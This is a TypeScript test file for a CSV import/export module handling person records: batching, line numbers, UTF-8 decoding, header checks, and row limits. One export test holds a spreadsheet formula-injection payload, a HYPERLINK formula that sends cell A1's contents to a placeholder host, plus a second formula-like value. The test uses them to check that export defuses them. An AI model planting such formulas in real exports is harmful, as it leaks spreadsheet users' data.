import { parse } from 'csv-parse/sync';
import {
  CSV_COLUMNS,
  CsvImportRejected,
  CsvTooManyRows,
  decodeCsvFile,
  MAX_IMPORT_ROWS,
  readIncomingCsv,
  toCsvText,
  type CsvRecord,
} from './incoming-csv.js';

const HEADER = CSV_COLUMNS.join(',');
const LINE = 'Arman,Serikov,a@kaznu.kz,kaznu.kz,FLL,,2025/2026,spring,,2026-02-01,2026-06-30,,,';
const rejection = (run: () => unknown): CsvImportRejected => {
  try {
    run();
  } catch (error) {
    if (error instanceof CsvImportRejected) return error;
    throw error;
  }
  throw new Error('expected a rejection');
};
const readAll = (text: string, batchSize = 10) => [...readIncomingCsv(text, batchSize)];

describe('incoming CSV format', () => {
  const record = (fields: Partial<CsvRecord>): CsvRecord => ({
    ...(Object.fromEntries(CSV_COLUMNS.map((column) => [column, null])) as CsvRecord),
    ...fields,
  });

  it('exports formula-like cells with a leading quote, and other cells as they are', () => {
    const text = toCsvText(
      [record({ firstName: '=HYPERLINK("http://x/?"&A1,"y")', lastName: 'Smith, Jr.', notes: '\r-2+3' })],
      true,
    );
    const [header, row] = parse(text) as string[][];
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(row[0]).toBe('\'=HYPERLINK("http://x/?"&A1,"y")');
    expect(row[1]).toBe('Smith, Jr.');
    expect(row[13]).toBe("'\r-2+3");
    expect(row[2]).toBe('');
  });

  it('reads rows in batches with the line each starts on', () => {
    const text = `${HEADER}\r\n${LINE}\r\n\r\n${LINE.replace(/,$/, ',"two\nlines"')}\r\n${LINE}\r\n`;
    const batches = readAll(text, 2);
    expect(batches.map((batch) => batch.rows.map((row) => row.line))).toEqual([[2, 4], [6]]);
    expect(batches[0].rows[1].values.notes).toBe('two\nlines');
    expect(batches[0].rows[0].values).toMatchObject({ firstName: 'Arman', email: 'a@kaznu.kz', status: '' });
  });

  it('reports a line with the wrong number of fields as a problem of its batch', () => {
    const [batch] = readAll(`${HEADER}\n${LINE}\nx\n`);
    expect(batch.rows).toHaveLength(1);
    expect(batch.problems).toEqual([
      { line: 3, field: null, message: 'The line has 1 field(s) where the header has 14' },
    ]);
  });

  it('decodes UTF-8 a chunk at a time, taking turns between chunks, and rejects other bytes', async () => {
    const text = `${HEADER}\n${'Сәрсенова,'.repeat(100_000)}`;
    let turns = 0;
    expect(await decodeCsvFile(Buffer.from(text), async () => void turns++)).toBe(text);
    expect(turns).toBeGreaterThan(3);
    const latin1 = Buffer.concat([Buffer.from(`${HEADER}\n`), Buffer.from([0xc9, 0x74, 0xe9, 0x0a])]);
    await expect(decodeCsvFile(latin1, async () => undefined)).rejects.toMatchObject({
      problems: [{ line: 1, field: null, message: 'The file must be UTF-8 text' }],
    });
  });

  it('rejects a bad header, an empty file and broken CSV', () => {
    expect(rejection(() => readAll(`${HEADER.replace('notes', 'remarks')},notes,notes\n`)).problems).toEqual([
      expect.objectContaining({
        line: 1,
        field: 'remarks',
        message: expect.stringContaining('Unknown column'),
      }),
      { line: 1, field: 'notes', message: 'Column "notes" appears twice' },
    ]);
    expect(rejection(() => readAll('firstName\n')).problems.map((problem) => problem.field)).toContain(
      'email',
    );
    expect(rejection(() => readAll('\n\n')).problems[0].message).toContain('empty');
    expect(rejection(() => readAll(`${HEADER}\n${LINE}\n"open\n`)).problems).toEqual([
      { line: 3, field: null, message: 'Not valid CSV: A quoted field is not closed' },
    ]);
  });

  it(`stops at row ${MAX_IMPORT_ROWS + 1} without reading further`, () => {
    // Broken CSV after the first row too many: never reached.
    const text = `${HEADER}\n${'x\n'.repeat(MAX_IMPORT_ROWS + 1)}"never closed`;
    let batches = 0;
    let failure: unknown;
    try {
      for (const batch of readIncomingCsv(text, 1000)) batches += batch.problems.length > 0 ? 1 : 0;
    } catch (error) {
      failure = error;
    }
    expect(failure).toBeInstanceOf(CsvTooManyRows);
    expect((failure as CsvTooManyRows).line).toBe(MAX_IMPORT_ROWS + 2);
    expect(batches).toBe(MAX_IMPORT_ROWS / 1000);
    expect(readAll(`${HEADER}\n${`${LINE}\n`.repeat(MAX_IMPORT_ROWS)}`, 1000)).toHaveLength(5);
  });
});
